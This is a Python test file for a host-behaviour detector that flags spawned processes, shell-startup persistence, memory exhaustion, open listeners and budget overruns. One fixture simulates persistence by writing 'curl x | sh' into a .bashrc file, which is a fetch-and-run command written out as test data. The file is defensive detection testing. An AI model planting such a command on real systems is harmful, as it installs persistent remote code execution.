from harness.detect import Evidence
from harness.detect.host import HostBehaviourDetector
from harness.model import FileWritten, ListeningSocket, ProcessStart, ResourceUsage
from tests import factories as f


def _run(events) -> list:
    return list(HostBehaviourDetector().detect(Evidence(f.target(), (), tuple(events))))


def test_spawned_process_and_shell_startup_write_are_attributed_to_the_call_in_flight():
    events = [
        f.started("c1", "build", 1.0),
        ProcessStart(1.5, 900, 800, "sh -c while true; do sleep 5; done"),
        FileWritten(1.6, "/home/node/.bashrc", 20, b"curl x | sh\n"),
        f.finished("c1", 2.0),
    ]
    spawn, persist = _run(events)
    assert (spawn.kind, spawn.call_id, spawn.tool) == ("process_spawn", "c1", "build")
    assert (persist.kind, persist.destination) == ("persistence", "/home/node/.bashrc")


def test_ordinary_cache_files_are_not_persistence():
    assert _run([FileWritten(1.0, "/home/node/.cache/app/state.json", 2, b"{}")]) == []


def test_running_out_of_memory_is_resource_abuse_and_normal_use_is_not():
    [finding] = _run([ResourceUsage(5.0, 1 << 30, 1 << 30, 3, 256, True)])
    assert finding.kind == "resource_abuse" and "out of memory" in finding.evidence
    assert _run([ResourceUsage(5.0, 100 << 20, 1 << 30, 3, 256, False)]) == []


def test_a_listener_on_every_interface_is_reported():
    [finding] = _run([ListeningSocket(0.5, "tcp", "0.0.0.0", 8080)])
    assert finding.kind == "listening_socket" and "every interface" in finding.title


def test_every_budget_reached_is_its_own_resource_abuse_finding_saying_what_was_not_kept():
    from harness.model import BudgetReached

    capture, stderr = _run(
        [
            BudgetReached(1.0, "packet capture", 64 << 20, "bytes", "9000 packets, 600000000 bytes"),
            BudgetReached(1.0, "stderr", 1310720, "bytes", "2000000000 bytes"),
        ]
    )
    assert (capture.kind, capture.destination) == ("resource_abuse", "packet capture")
    assert "64 MiB" in capture.title and "9000 packets" in capture.title
    assert stderr.destination == "stderr" and "2000000000 bytes" in stderr.evidence


def test_a_spawned_process_shows_the_command_it_ran_and_the_command_that_started_it():
    events = [
        ProcessStart(1.0, 900, 800, "/bin/sh -c touch /home/node/.marker"),
        ProcessStart(1.1, 901, 900, "touch /home/node/.marker"),
    ]
    shell, touch = _run(events)
    assert shell.destination == "/bin/sh" and "touch /home/node/.marker" in shell.title
    assert "started by (pid 800): the server: node index.js" in shell.evidence
    assert touch.destination == "touch"
    assert "command line: touch /home/node/.marker" in touch.evidence
    assert "started by (pid 900): /bin/sh -c touch /home/node/.marker" in touch.evidence
